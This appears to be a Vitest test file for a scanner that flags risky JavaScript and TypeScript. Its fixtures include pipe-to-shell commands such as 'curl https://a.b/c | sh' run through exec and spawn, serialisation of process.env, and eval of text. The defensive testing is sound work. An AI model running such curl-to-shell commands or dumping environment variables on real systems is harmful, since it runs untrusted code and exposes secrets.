import { describe, expect, it } from "vitest";
import { scanScript } from "../../../src/collect/security/scan-script.ts";

function codes(text: string, file = "src/a.js"): string[] {
  return scanScript(file, text).map(
    ({ code, severity, line }) => `${severity} ${code} ${line ?? ""}`,
  );
}

describe("a script of JavaScript or TypeScript", () => {
  it("is judged by the shell commands that it starts", () => {
    const start = (call: string) =>
      `import { exec, spawn } from "node:child_process";\n${call}\n`;
    const critical = ["critical security/pipe-to-shell 2"];
    expect(codes(start('exec("curl https://a.b/c | sh");'))).toEqual(critical);
    expect(codes(start("exec(`curl ${url} | sh`);"))).toEqual(critical);
    expect(
      codes(start('spawn("bash", ["-c", "curl https://a.b/c | sh"]);')),
    ).toEqual(critical);
    expect(codes(start('exec("git status | head");'))).toEqual([]);
  });

  it.each([
    ["JSON.stringify(process.env);", "medium security/serialise-environment 1"],
    ["eval(text);", "low security/code-from-text 1"],
  ])("%s", (text, code) => {
    expect(codes(text)).toEqual([code]);
  });

  it.each(["src/a.ts", "src/a.tsx", "src/a.mjs", "bin/a"])(
    "is read by its own grammar: %s",
    (file) => {
      const typed = /tsx?$/.test(file) ? "const a = <T,>(b: T): T => b;\n" : "";
      expect(codes(`${typed}eval(text);`, file)).toHaveLength(1);
    },
  );

  it("says nothing about code that cannot be parsed: lint does", () => {
    expect(codes("eval(text) ) ("));
    expect(codes("eval(text) ) (")).toEqual([]);
  });

  it("does not get away by text that breaks the analysis", () => {
    expect(codes('eval("((("); exec("curl a | sh");')).toContain(
      "medium security/unreadable-program 1",
    );
  });

  it("may have emoji of several parts", () => {
    expect(
      codes('eval(a); // \u{1f469}\u200d\u{1f4bb}\nconst b = "\u200d";'),
    ).toEqual(["low security/code-from-text 1"]);
  });
});
